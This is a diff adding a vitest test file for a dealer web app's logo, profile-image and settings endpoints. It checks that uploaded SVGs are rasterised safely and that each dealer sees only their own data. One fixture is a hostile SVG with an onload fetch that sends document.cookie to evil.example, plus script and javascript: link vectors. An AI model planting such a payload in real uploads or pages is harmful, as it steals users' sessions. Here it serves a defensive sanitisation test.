@@ -1,0 +1,144 @@
+import { createCanvas } from '@napi-rs/canvas';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildTestApp, registerDealer, TEST_ORIGIN, type TestApp } from '../../test/build-test-app.ts';
+import { multipartBody } from '../../test/multipart.ts';
+
+let t: TestApp;
+let dealer: Awaited<ReturnType<typeof registerDealer>>;
+
+const HOSTILE_SVG = `<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100" onload="fetch('https://evil.example/'+document.cookie)">
+  <script>alert(document.domain)</script>
+  <rect width="300" height="100" fill="#0f5132"/>
+  <a xlink:href="javascript:alert(1)"><text x="20" y="60" font-size="40" fill="#fff">BRINDLEY</text></a>
+</svg>`;
+
+async function png(width: number, height: number, colour = '#0f5132') {
+  const canvas = createCanvas(width, height);
+  const ctx = canvas.getContext('2d');
+  ctx.fillStyle = colour;
+  ctx.fillRect(0, 0, width, height);
+  return canvas.encode('png');
+}
+
+async function upload(url: string, field: string, bytes: Buffer, name: string, cookie = dealer.cookie) {
+  const body = await multipartBody([{ field, name, bytes }]);
+  return t.app.inject({
+    method: 'POST',
+    url,
+    payload: body.payload,
+    headers: { ...body.headers, cookie, origin: TEST_ORIGIN },
+  });
+}
+
+beforeAll(async () => {
+  t = await buildTestApp();
+  dealer = await registerDealer(t.app, { dealershipName: 'Brindley & Hart Cars Ltd' });
+});
+afterAll(() => t.close());
+
+describe('logo and profile image', () => {
+  it('stores an SVG logo as a PNG drawn from it: no script, handler or link survives', async () => {
+    const res = await upload('/api/dealer/logo', 'logo', Buffer.from(HOSTILE_SVG), 'logo.svg');
+    expect(res.statusCode, res.body).toBe(200);
+    const { logoUrl } = res.json();
+    expect(logoUrl).toMatch(new RegExp(`^/api/branding/${dealer.id}/logo\\.png\\?v=[0-9a-f]{12}$`));
+    const stored = await t.app.inject(logoUrl);
+    expect(stored.headers['content-type']).toBe('image/png');
+    expect(stored.rawPayload.subarray(1, 4).toString()).toBe('PNG');
+    const text = stored.rawPayload.toString('latin1');
+    for (const word of ['script', 'onload', 'javascript', 'evil.example', '<svg']) {
+      expect(text).not.toContain(word);
+    }
+    // Drawn as large as the logo box allows: 800 × 267 for a 3:1 vector.
+    expect(stored.rawPayload.readUInt32BE(16)).toBe(800);
+  });
+
+  it('keeps a PNG logo within the box, and the settings and the public URL point at it', async () => {
+    const res = await upload('/api/dealer/logo', 'logo', await png(1600, 400), 'logo.png');
+    const { logoUrl } = res.json();
+    const settings = (
+      await t.app.inject({ url: '/api/dealer/settings', headers: { cookie: dealer.cookie } })
+    ).json();
+    expect(settings.dealershipLogo).toBe(logoUrl);
+    const served = await t.app.inject(logoUrl);
+    expect(served.statusCode).toBe(200);
+    expect(served.headers['cache-control']).toBe('public, max-age=86400');
+    expect([served.rawPayload.readUInt32BE(16), served.rawPayload.readUInt32BE(20)]).toEqual([800, 200]);
+  });
+
+  it('refuses what is not an image, a damaged one, and one too large', async () => {
+    const cases: [Buffer, string, number, RegExp][] = [
+      [Buffer.from('%PDF-1.7 not a logo'), 'logo.png', 400, /PNG, JPEG, WEBP, SVG image/],
+      [Buffer.concat([(await png(10, 10)).subarray(0, 40)]), 'logo.png', 400, /could not be read/],
+      [Buffer.alloc(6 * 1024 * 1024, 1), 'huge.png', 413, /larger than 5 MB/],
+    ];
+    for (const [bytes, name, status, message] of cases) {
+      const res = await upload('/api/dealer/logo', 'logo', bytes, name);
+      expect(res.statusCode, name).toBe(status);
+      expect(res.json().message).toMatch(message);
+    }
+    const wrongField = await upload('/api/dealer/logo', 'image', await png(10, 10), 'x.png');
+    expect(wrongField.statusCode).toBe(400);
+  });
+
+  it('resizes a profile photo to a JPEG of at most 512 pixels, readable only by its dealer', async () => {
+    const res = await upload('/api/dealer/profile-image', 'profileImage', await png(1920, 1080), 'me.png');
+    expect(res.statusCode, res.body).toBe(200);
+    const mine = await t.app.inject({ url: res.json().profileImageUrl, headers: { cookie: dealer.cookie } });
+    expect(mine.headers['content-type']).toBe('image/jpeg');
+    expect(mine.rawPayload[0]).toBe(0xff);
+    const svg = await upload('/api/dealer/profile-image', 'profileImage', Buffer.from(HOSTILE_SVG), 'me.svg');
+    expect(svg.statusCode).toBe(400);
+    const other = await registerDealer(t.app);
+    const theirs = await t.app.inject({
+      url: '/api/dealer/profile-image',
+      headers: { cookie: other.cookie },
+    });
+    expect(theirs.statusCode).toBe(404);
+  });
+});
+
+describe('general settings', () => {
+  const put = (body: object, cookie = dealer.cookie) =>
+    t.app.inject({
+      method: 'PUT',
+      url: '/api/dealer/settings',
+      payload: body,
+      headers: { cookie, origin: TEST_ORIGIN },
+    });
+  const valid = {
+    dealershipName: 'Brindley & Hart Cars Ltd',
+    dealershipAddress: 'Canal Basin Works, 18 Lockkeeper’s Way, Birmingham B18 4QN',
+    dealershipPhone: '0121 496 0000',
+    dealershipWhatsapp: '',
+    dealershipWebsite: 'https://brindleyhart.example',
+    primaryColor: '#0f5132',
+    secondaryColor: '#ffd700',
+    emailFromName: 'Brindley & Hart Sales',
+    emailSignature: 'Sam Hart\nSales Manager',
+  };
+
+  it('validates with the spec’s messages', async () => {
+    const cases: [object, string, string][] = [
+      [{ dealershipName: ' ' }, 'dealershipName', 'Dealership name is required'],
+      [{ dealershipWebsite: 'not a url' }, 'dealershipWebsite', 'Invalid website URL'],
+      [{ primaryColor: 'green' }, 'primaryColor', 'Invalid color format'],
+      [{ secondaryColor: '#12345' }, 'secondaryColor', 'Invalid color format'],
+    ];
+    for (const [change, path, message] of cases) {
+      const res = await put({ ...valid, ...change });
+      expect(res.statusCode).toBe(400);
+      expect(res.json().issues).toContainEqual({ path, message });
+    }
+  });
+
+  it('saves and reads back, and each dealer sees only their own', async () => {
+    const res = await put(valid);
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.json()).toMatchObject({ ...valid, dealershipWhatsapp: null });
+    const other = await registerDealer(t.app, { dealershipName: 'Kingsway Motors Ltd' });
+    const theirs = await t.app.inject({ url: '/api/dealer/settings', headers: { cookie: other.cookie } });
+    expect(theirs.json()).toMatchObject({ dealershipName: 'Kingsway Motors Ltd', primaryColor: '#667eea' });
+  });
+});
